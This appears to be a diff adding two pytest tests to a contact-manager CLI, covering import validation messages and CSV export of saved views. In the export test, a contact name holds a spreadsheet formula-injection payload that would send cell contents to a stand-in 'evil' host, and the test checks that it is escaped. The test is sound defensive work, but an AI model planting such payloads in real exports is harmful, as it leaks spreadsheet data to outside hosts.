@@ -156,6 +156,51 @@ def test_what_was_exported_goes_in_again(filled: Program, fresh: Program) -> Non
         assert contact[field] == before[field], field
 
 
+def test_what_does_not_fit_its_field_is_said(fresh: Program) -> None:
+    fresh.play({"command": "set_setting", "name": "fields.seats", "value": {"label": "Seats", "kind": "number"}})
+    fresh.play({"command": "set_setting", "name": "sources.fair", "value": {"label": "The Fair"}})
+    path = fresh.home / "seats.csv"
+    path.write_text("name,phone,seats\nDana,0522345671,many\n")
+    run = fresh.inside("import", str(path), "--source", "the fair", "--dry-run")
+    assert run.code == 0
+    assert "1 value does not fit its field." in run.out
+    assert "seats (?)" in run.out
+    assert "many is not a number." in run.out
+    run = fresh.inside("import", str(path), "--source", "the fare")
+    assert (run.code, run.out) == (2, "")
+    assert "There is no source the fare; did you mean The Fair?" in run.err
+
+
+def test_a_view_as_csv_has_its_columns_in_its_order(filled: Program, fresh: Program) -> None:
+    columns = ["value", "name", "next", "stage", "email", "owner", "age", "touched", "phone", "attempts"]
+    filled.play({"command": "save_view", "name": "All of it", "filter": "", "columns": columns, "order": "oldest"})
+    filled.play({"command": "save_view", "name": "Bare", "filter": ""})
+    out = filled.home / "view.csv"
+    assert filled.inside("export", "contacts", "--view", "all of it", "-o", str(out)).code == 0
+    header, *lines = out.read_text(encoding="utf-8-sig").splitlines()
+    assert header == "value,currency,name,next_action,next_at,lifecycle,email,owner,started_at,worked_at,phone,attempts"
+    contacts = filled.inside("export", "contacts", "--format", "json").json
+    rows = list(csv.DictReader(io.StringIO("\n".join([header, *lines]))))
+    assert [row["email"] for row in rows] == [one["email"] or "" for one in contacts]
+    assert {row["name"] for row in rows} >= {'\'=HYPERLINK("http://evil/?"&A1,"x")'}, "no formula runs"
+    assert all(
+        (row["lifecycle"], row["next_at"]) == (one["lifecycle"], one["next_at"] or "") for row, one in zip(rows, contacts, strict=True)
+    )
+    whole = filled.inside("export", "contacts", "--view", "all of it", "--all-columns").out
+    assert whole.startswith(CONTACTS_HEADER)
+    assert (
+        filled.inside("export", "contacts", "--view", "bare").out
+        == filled.inside("export", "contacts", "--view", "all", "--all-columns").out
+    )
+    objects = filled.inside("export", "contacts", "--view", "all of it", "--format", "json").json
+    assert objects == contacts, "JSON keeps whole objects"
+    assert fresh.inside("import", str(out), "--json").code in (0, 3)
+    again = fresh.inside("show", "contact", "evil@x.example", "--json").json
+    before = filled.inside("show", "contact", "evil@x.example", "--json").json
+    assert (again["name"], again["phone"], again["owner"]) == (before["name"], before["phone"], None)
+    assert again.get("properties") in (None, {}), "what follows from the log is no property"
+
+
 def test_contacts_as_json_are_those_of_show_contact(filled: Program) -> None:
     contacts = filled.inside("export", "contacts", "--format", "json").json
     shown = filled.inside("show", "contact", "evil@x.example", "--json").json
